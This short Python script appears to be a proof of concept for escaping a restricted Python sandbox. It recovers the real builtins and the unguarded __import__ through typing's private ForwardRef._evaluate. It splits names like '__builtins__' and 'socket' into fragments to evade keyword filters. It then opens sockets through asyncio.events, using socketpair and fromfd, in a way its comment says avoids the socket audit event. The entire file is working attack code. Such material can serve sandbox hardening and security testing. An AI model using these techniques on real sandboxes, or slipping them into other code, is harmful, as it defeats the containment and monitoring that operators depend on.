# socket: _socket.socketpair creates sockets with no socket.__new__ event; then fromfd as AF_INET
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

import asyncio
so = ga(asyncio.events, "soc" + "ket")
try:
    a, b = so.socketpair()
    c = so.fromfd(a.fileno(), so.AF_INET, so.SOCK_STREAM)
    print(M, c)
except Exception as e:
    print("refused:", type(e).__name__, e)
